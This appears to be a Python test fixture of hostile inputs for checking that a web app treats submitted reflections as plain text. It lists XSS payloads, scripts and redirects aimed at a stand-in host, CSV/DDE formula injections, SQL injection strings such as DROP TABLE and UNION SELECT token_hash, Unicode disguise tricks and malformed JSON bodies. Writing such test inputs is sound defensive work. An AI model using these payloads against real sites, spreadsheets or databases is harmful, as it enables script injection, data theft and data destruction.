"""Hostile words a phone might send: markup, scripts, formulas, queries, disguises, floods.

Every payload is something a person could type or paste. Those that try to run or style
something set `window.__hc_pwned` or carry the marker `hcevil`, so a page that obeyed one shows
it; a page that draws them as text shows them exactly as typed.
"""

from __future__ import annotations

import json

MARK = "hcevil"

HTML = [
    "<script>window.__hc_pwned=1</script>",
    "<script src=//hcevil.example/x.js></script>",
    '<img src=x onerror="window.__hc_pwned=1">',
    "<img src=x onerror=alert(1)>",
    "<svg onload=window.__hc_pwned=1>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:window.__hc_pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.__hc_pwned=1</script>"></iframe>',
    '<a href="javascript:alert(1)" class="hcevil">tap me</a>',
    '<a href="https://hcevil.example">free help</a>',
    '<b class="hcevil">bold</b> and <i class="hcevil">italic</i>',
    '<h1 class="hcevil">BIG</h1>',
    '<marquee class="hcevil">moving</marquee>',
    '<div style="position:fixed;inset:0;background:red" class="hcevil">cover</div>',
    '<style>body{display:none}</style><p class="hcevil">hidden</p>',
    '<body onload="window.__hc_pwned=1">',
    '<details open ontoggle="window.__hc_pwned=1">',
    '<input autofocus onfocus="window.__hc_pwned=1">',
    '<video><source onerror="window.__hc_pwned=1"></video>',
    '<object data="javascript:window.__hc_pwned=1"></object>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form action="https://hcevil.example"><button>send</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://hcevil.example">',
    '<base href="https://hcevil.example/">',
    '<link rel=stylesheet href="https://hcevil.example/x.css">',
    '"><script>window.__hc_pwned=1</script>',
    "'><img src=x onerror=window.__hc_pwned=1>",
    "</textarea><script>window.__hc_pwned=1</script>",
    "</div></li></ul><script>window.__hc_pwned=1</script>",
    "<!-- hcevil comment --> still here",
    "<![CDATA[<script>window.__hc_pwned=1</script>]]>",
    "&lt;b&gt;entities&lt;/b&gt; &amp; &#60;script&#62;",
    "javascript:window.__hc_pwned=1",
    "data:text/html,<script>window.__hc_pwned=1</script>",
    "{{constructor.constructor('window.__hc_pwned=1')()}}",
    "${window.__hc_pwned=1}",
    "<% window.__hc_pwned=1 %>",
    "<sup class=hcevil>2</sup> and <sub class=hcevil>3</sub>",
    "<br><br><br>line breaks as tags",
    "<table class=hcevil><tr><td>cell</td></tr></table>",
]

MARKDOWN = [
    "**bold words** and _italic words_",
    "# A heading",
    "### Smaller heading",
    "[free help](https://hcevil.example)",
    "![an image](https://hcevil.example/x.png)",
    "> a quote block",
    "- a list\n- of things",
    "1. first\n2. second",
    "```\ncode block\n```",
    "`inline code`",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "~~struck through~~",
    "---",
    "***",
    "<https://hcevil.example>",
    "[x]: https://hcevil.example",
    "Text with a footnote[^1]\n\n[^1]: the note",
    ":red[red text] and :blue-background[blue]",
    ":material/warning: an icon code",
    "\\*not italic\\*",
    "__dunder__ words",
    "* * *",
]

LATEX = [
    "$x^2$ feels like progress",
    "$$\\frac{1}{2}$$",
    "\\(a+b\\)",
    "\\[\\sum_{i=1}^{n} i\\]",
    "$\\color{red}{\\text{red}}$",
    "$\\href{https://hcevil.example}{click}$",
    "\\begin{equation}E=mc^2\\end{equation}",
    "It cost $5 and then $10 more",
]

SHORTCODES = [
    ":smile: :heart: :tada:",
    ":rocket:",
    ":+1: thanks",
    ":flag-us:",
    ":skull_and_crossbones:",
]

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://hcevil.example","help")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=IMPORTXML("https://hcevil.example","//a")',
    "\t=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    '=DDE("cmd";"/C calc";"x")',
]

SQL = [
    "'; DROP TABLE contributions; --",
    '" OR 1=1 --',
    "' OR '1'='1",
    "1; DELETE FROM sessions",
    "Robert'); DROP TABLE participants;--",
    "UNION SELECT token_hash FROM participants",
    "%' AND 1=0 UNION SELECT NULL --",
    "\\'; SELECT pg_sleep(5); --",
]

DISGUISES = [
    "\u202ethgin doog a saw sihT",
    "hope\u200bful\u200b words",
    "\u2066isolated\u2069 words",
    "tag\U000e0041\U000e0042 letters",
    "a\u00adsoft\u00adhyphen",
    "ｆｕｌｌ ｗｉｄｔｈ ｗｏｒｄｓ",
    "𝓯𝓪𝓷𝓬𝔂 letters",
    "combining a\u0301\u0302\u0303 marks",
    "Z̴̧͈̦̋a̸̛͔l̶̰̾g̵̱̕o̵͔͆ text",
    "right-to-left: שלום עולם",
    "عربي مع English",
    "中文也可以",
    "日本語のテキスト",
    "한국어 문장",
    "हिन्दी में",
    "Ελληνικά",
    "Кириллица с латиницей",
    "emoji 👨‍👩‍👧‍👦 family",
    "🏳️‍🌈 flag",
    "🙂🙃🙂🙃🙂🙃",
    "skin tone 👍🏽",
    "keycap 1️⃣",
    "\U0001f600" * 30,
    "ﷺ wide ligature",
    "ᅠ filler with words",
]

NEWLINES = [
    "line one\nline two",
    "first\n\n\nafter blank lines",
    "tab\tseparated",
    "crlf\r\nline",
    "   leading and trailing   ",
]

BASES = HTML + MARKDOWN + LATEX + SHORTCODES + FORMULAS + SQL + DISGUISES + NEWLINES


def reflections() -> list[str]:
    """Each payload alone and inside a sentence: at least 200 distinct texts a phone may send."""
    found: list[str] = []
    for base in BASES:
        for text in (base, f"Tonight I felt {base}", f"{base} — and that is okay"):
            if text not in found and len(text) <= 280:
                found.append(text)
    return found


# What no phone's page sends: each must be refused with a clear status, never a server error.
TOO_BIG = ["x" * 100_000, "<b>" * 40_000, "🙂" * 50_000]

MALFORMED_BODIES: list[bytes] = [
    b"",
    b"{",
    b"}",
    b"[]",
    b"null",
    b"true",
    b"42",
    b'"text"',
    b"{'token': 'single quotes'}",
    b'{"token": }',
    b'{"token": "a", "form": "reflection", "fields": {"text": "x"},}',
    b'{"token": NaN}',
    b'{"token": Infinity}',
    b"\xff\xfe\x00\x00",
    b'{"token": "\\ud800"}',
    b'{"a":' + b"[" * 100_000,
    b'{"token": "' + b"a" * 300_000 + b'"}',
    json.dumps({"form": "reflection", "fields": {"text": "no token"}}).encode(),
    json.dumps({"token": 12, "form": "reflection", "fields": {"text": "number token"}}).encode(),
    json.dumps({"token": "x" * 20, "form": "poem", "fields": {"text": "unknown form"}}).encode(),
    json.dumps({"token": "x" * 20, "form": "reflection", "fields": ["not", "an", "object"]}).encode(),
    json.dumps({"token": "x" * 20, "form": "reflection", "fields": {"text": ["a list"]}}).encode(),
    json.dumps({"token": "x" * 20, "form": "reflection", "fields": {"text": {"deep": 1}}}).encode(),
    json.dumps({"token": "<script>", "form": "reflection", "fields": {"text": "bad token"}}).encode(),
]
